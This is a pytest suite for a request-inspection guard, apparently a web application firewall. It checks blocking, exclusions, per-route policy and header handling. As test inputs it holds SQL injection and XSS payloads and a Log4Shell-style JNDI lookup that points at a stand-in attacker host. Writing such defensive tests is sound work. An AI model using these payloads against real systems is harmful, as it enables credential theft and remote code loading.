"""The inspection guard and its policy section, through the real engine."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from vaultgate.core.exchange import Exchange
from vaultgate.core.model import Action
from vaultgate.core.policy import parse_policy
from vaultgate.core.request import Request
from vaultgate.engine import Engine
from vaultgate.errors import PolicyError
from vaultgate.guards import load_all
from vaultgate.state.memory import MemoryStore
from vaultgate.telemetry.audit import AuditLog, AuditSettings

# The learned model (guards/learned.py) judges payloads too; it is off here
# so that what is tested is the rule engine and its exclusions.
POLICY = """
upstream: http://127.0.0.1:9
model: {enabled: false}
inspection:
  headers: [x-forwarded-host, origin]
  exclude:
    - {rule: sqli.tautology, args: ["json:$.memo"]}
routes:
  - path: /payments
    methods: [POST]
  - path: /notes
    inspection: {exclude: [{rule: xss}]}
  - path: /raw
    inspection: {enabled: false}
  - path: /strict
    inspection: {paranoia: 3, limits: {json_depth: 2, decode_rounds: 1}}
"""


class Gate:
    """An engine on ``POLICY`` (or another), deciding requests."""

    def __init__(self, tmp_path: Path, policy: str = POLICY) -> None:
        load_all()
        audit = AuditLog(AuditSettings(str(tmp_path / "audit.jsonl")))
        self.engine = Engine(parse_policy(policy), MemoryStore(), audit)

    def send(
        self,
        target: str,
        body: object = None,
        headers: list[tuple[str, str]] | None = None,
    ) -> Exchange:
        raw = b"" if body is None else json.dumps(body).encode()
        head = [("Host", "api.example"), *(headers or [])]
        if body is not None:
            head.append(("Content-Type", "application/json"))
        request = Request(
            "POST" if body is not None else "GET",
            target,
            head,
            "192.0.2.7",
            body=raw,
            body_length=len(raw),
        )
        ex = self.engine.begin(request)
        asyncio.run(self.engine.decide(ex))
        return ex


def outcome(ex: Exchange) -> tuple[str, tuple[str, ...]]:
    assert ex.decision is not None
    return ex.decision.action.value, ex.decision.reasons


def test_an_injection_is_blocked_and_ordinary_values_pass(tmp_path: Path) -> None:
    gate = Gate(tmp_path)
    blocked = gate.send("/search?q=1'+union+select+password+from+users--")
    assert outcome(blocked)[0] == "block"
    assert "sqli.union" in outcome(blocked)[1]
    assert blocked.findings[0].location == "query:q"
    fine = gate.send("/payments", {"memo": "O'Reilly: select a payee, drop-off <3"})
    assert outcome(fine) == ("allow", ())


def test_an_exclusion_silences_one_rule_at_one_argument(tmp_path: Path) -> None:
    gate = Gate(tmp_path)
    assert outcome(gate.send("/payments", {"memo": "x' or 1=1"})) == ("allow", ())
    elsewhere = gate.send("/payments", {"note": "x' or 1=1"})
    assert outcome(elsewhere) == ("block", ("sqli.tautology",))
    other_rule = gate.send("/payments", {"memo": "x' union select 1--"})
    assert outcome(other_rule)[0] == "block"


def test_a_route_excludes_a_family(tmp_path: Path) -> None:
    gate = Gate(tmp_path)
    assert outcome(gate.send("/notes?t=<script>alert(1)</script>"))[0] == "allow"
    assert outcome(gate.send("/other?t=<script>alert(1)</script>"))[0] == "block"
    # The route's list adds to the top-level one: the memo exclusion holds.
    assert outcome(gate.send("/notes", {"memo": "x' or 1=1"}))[0] == "allow"


def test_a_route_may_turn_inspection_off(tmp_path: Path) -> None:
    gate = Gate(tmp_path)
    ex = gate.send("/raw?q=' or '1'='1")
    assert outcome(ex) == ("allow", ())
    assert ex.findings == []


def test_policy_named_headers_are_inspected(tmp_path: Path) -> None:
    gate = Gate(tmp_path)
    ex = gate.send("/x", headers=[("Origin", "javascript:alert(document.domain)")])
    assert "xss.url" in outcome(ex)[1]
    assert ex.findings[0].location == "header:origin"


# Headers of ordinary API clients and browsers: inspected, never blocked.
CLIENT_HEADERS = [
    ("Origin", "http://localhost:3000"),
    ("Idempotency-Key", "3f6c2b1e-8d4a-4c8e-9b1f-2a7d5e6c9f10"),
    (
        "Stripe-Signature",
        "t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff",
    ),
    ("Forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
    ("Via", "1.1 proxy.example (squid/3.5.27)"),
    ("Prefer", "return=representation; wait=10"),
    ("Digest", "sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE="),
    ("Signature-Input", 'sig1=("@method" "@path");created=1618884473;keyid="k1"'),
    ("Baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
    ("Link", '<https://api.example/items?page=2>; rel="next"'),
    ("Api-Version", "2024-06-20"),
    ("Device-Id", "iPhone14,2; iOS 17.4.1"),
    ("Accept-Version", "~1.2"),
    ("Content-Disposition", 'attachment; filename="statement 2024-03.pdf"'),
    ("Tenant", "O'Reilly Media"),
]


@pytest.mark.parametrize("header", CLIENT_HEADERS)
def test_ordinary_client_headers_pass(tmp_path: Path, header: tuple[str, str]) -> None:
    assert outcome(Gate(tmp_path).send("/x", headers=[header])) == ("allow", ())


@pytest.mark.parametrize(
    "header",
    [
        ("Test", "${jndi:ldap://evil.example/a}"),
        ("Remote-IP", "1' union select password from users--"),
        ("FooBarHeader", "<script>alert(1)</script>"),
    ],
)
def test_payloads_in_custom_headers_are_blocked(
    tmp_path: Path, header: tuple[str, str]
) -> None:
    ex = Gate(tmp_path).send("/x", headers=[header])
    assert outcome(ex)[0] == "block"
    assert ex.findings[0].location == "header:" + header[0].lower()


def test_route_limits_mark_inspection_incomplete(tmp_path: Path) -> None:
    gate = Gate(tmp_path)
    ex = gate.send("/strict", {"a": {"b": {"c": "deep"}}})
    assert ex.inspection_incomplete == "json-depth"
    assert outcome(ex) == ("block", ("inspection-incomplete:json-depth",))
    assert gate.send("/payments", {"a": {"b": {"c": "deep"}}}).decision.action is (
        Action.ALLOW
    )


def test_route_settings_are_resolved(tmp_path: Path) -> None:
    policy = Gate(tmp_path).engine.policy
    by_path = {route.path: route.settings["inspection"] for route in policy.routes}
    assert by_path["/strict"].paranoia == 3
    assert by_path["/strict"].decode_rounds == 1
    assert by_path["/strict"].limits.json_depth == 2
    assert by_path["/payments"].paranoia == 1
    assert "origin" in by_path["/payments"].limits.headers
    assert [e.target for e in by_path["/notes"].exclusions] == ["sqli.tautology", "xss"]


@pytest.mark.parametrize(
    ("section", "where"),
    [
        ("{paranoia: 5}", "inspection.paranoia"),
        ("{exclude: [{rule: sqli.no_such_rule}]}", "inspection.exclude[0].rule"),
        ("{exclude: [{args: [q]}]}", "inspection.exclude[0]"),
        (
            "{exclude: [{rule: xss, args: ['jsn:$.memo']}]}",
            "inspection.exclude[0].args[0]",
        ),
        ("{limits: {json_depth: 0}}", "inspection.limits.json_depth"),
        ("{limits: {decode_rounds: 9}}", "inspection.limits.decode_rounds"),
        ("{headers: {a: b}}", "inspection.headers"),
        ("{typo: 1}", "inspection.typo"),
    ],
)
def test_policy_mistakes_say_where(section: str, where: str) -> None:
    load_all()
    with pytest.raises(PolicyError) as error:
        parse_policy(f"upstream: http://127.0.0.1:9\ninspection: {section}\n")
    assert error.value.path == where


def test_values_are_left_for_later_guards(tmp_path: Path) -> None:
    # The learned model reads these instead of extracting the request again.
    ex = Gate(tmp_path).send("/payments", {"memo": "rent%20march"})
    decoded = {(v.kind, v.name, v.text) for v in ex.scratch["inspection.values"]}
    raw = {(v.kind, v.name, v.text) for v in ex.scratch["inspection.raw"]}
    assert ("json", "$.memo", "rent march") in decoded
    assert ("json", "$.memo", "rent%20march") in raw
